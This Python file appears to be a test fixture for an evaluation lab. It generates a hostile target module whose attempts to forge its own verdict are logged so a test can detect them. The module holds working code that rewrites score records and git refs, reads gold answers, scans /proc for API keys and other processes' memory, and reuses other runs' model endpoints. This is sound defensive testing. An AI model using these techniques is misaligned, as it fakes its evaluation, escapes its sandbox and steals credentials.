"""Target code that tries to forge its verdict, and still answers as the honest one does.

Each attempt that succeeds adds its name to LOOT, which is part of the answer: a verdict of such a
run differs from the honest one, and a test finds the word in the lab.
"""

LOOT = "ESCAPED"
KEY = "sk-outside-0123456789abcdef"
HOSTILE = """PROMPT = "List all of what matters."
LAB, TARGET, ENGINE, KEY = "@LAB@", "@TARGET@", @ENGINE@, "@KEY@"


def answer(note):
    import glob, json, os, socket, sys, urllib.request

    caller = sys._getframe(1).f_locals
    out, plan, models = caller["out_dir"], caller["plan_dir"], caller["models"]
    loot = []

    def attempt(action):
        try:
            if action():
                loot.append(action.__name__)
        except BaseException:
            pass

    @attempt
    def edit_run_records():
        for path in glob.glob(LAB + "/history/*/*/outputs/*/run.json"):
            record = json.load(open(path))
            record["scores"], record["primary"] = {"length": 0.0}, 0.0
            json.dump(record, open(path, "w"))
            return True

    @attempt
    def edit_the_view_of_outputs():
        for path in glob.glob(LAB + "/history/*/*/outputs.jsonl"):
            open(path, "a").write("{}\\n")
            return True

    @attempt
    def see_the_lab():
        return {"history", "analysis", "journal.jsonl", "target"} & set(os.listdir(LAB))

    @attempt
    def climb_from_its_folder():
        return glob.glob(out + "/../../../*/run.json") or glob.glob(out + "/../../../../baseline")

    @attempt
    def read_gold():
        return glob.glob(LAB + "/baseline/verify/*/note.txt") or os.path.exists(plan + "/gold.txt")

    @attempt
    def edit_plans():
        open(LAB + "/baseline/train/plan_1/note.txt", "w").write("spoilt")
        return True

    @attempt
    def plant_a_plan():
        os.makedirs(LAB + "/baseline/train/plan_9")  # below /tmp there is a folder of its own
        open(LAB + "/baseline/train/plan_9/note.txt", "w").write("planted")

    @attempt
    def move_main():
        open(TARGET + "/.git/refs/heads/main", "w").write("0" * 40)
        return True

    @attempt
    def move_main_by_its_worktree():
        tree = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
        gitdir = open(tree + "/.git").read().split()[1]
        open(gitdir + "/HEAD", "w").write("0" * 40)
        return True

    @attempt
    def edit_its_worktree():
        open(__file__, "a").write("# planted")
        return True

    @attempt
    def plant_bytecode():
        os.makedirs(os.path.dirname(__file__) + "/__pycache__/x")
        return True

    @attempt
    def find_a_key():
        texts = [str(dict(os.environ)).encode()]
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                texts.append(open(path, "rb").read())
            except OSError:
                continue
        return KEY[:9].encode() in b"".join(texts)

    @attempt
    def read_others_memory():
        return open(f"/proc/{ENGINE}/mem", "rb").read(1) or open("/proc/1/mem", "rb").read(1)

    @attempt
    def signal_the_engine():
        os.kill(ENGINE, 0)
        return b"pytest" in open(f"/proc/{ENGINE}/cmdline", "rb").read()

    @attempt
    def open_descriptors_of_its_worker():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) == os.getpid():
                continue
            for fd in range(3, 30):
                try:
                    os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    return True
                except OSError:
                    continue

    @attempt
    def use_a_token_of_another_run():
        store = "/tmp/tokens"
        url = models[0]["base_url"]
        old = open(store).read().split() if os.path.exists(store) else []
        open(store, "a").write(url + "\\n")
        for one in old:
            body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "x"}]})
            head = {"Content-Type": "application/json"}
            request = urllib.request.Request(one + "/chat/completions", body.encode(), head)
            if one != url and urllib.request.urlopen(request, timeout=5).status == 200:
                return True

    @attempt
    def call_another_address():
        socket.create_connection(("127.0.0.1", int("@PORT@")), 2)
        return True

    # What it may write, under names that are ours: none of it is believed.
    for name, text in (
        ("run.json", json.dumps({"scores": {"length": 1.0}, "status": "ok"})),
        ("outputs.jsonl", "{}"), ("meta.json", "{}"), ("calls.jsonl", "{}"),
    ):
        open(os.path.join(out, name), "w").write(text)
    return PROMPT + note + "".join(f" @LOOT@-{name}" for name in loot)
"""


def hostile_core(*, lab: object, target: object, engine: int, port: int) -> str:
    """The module `notes.core` that attacks a lab and the process `engine`."""
    text = HOSTILE
    for name, value in {
        "LAB": lab, "TARGET": target, "ENGINE": engine, "KEY": KEY[:9], "PORT": port, "LOOT": LOOT,
    }.items():  # fmt: skip
        text = text.replace(f"@{name}@", str(value))
    return text
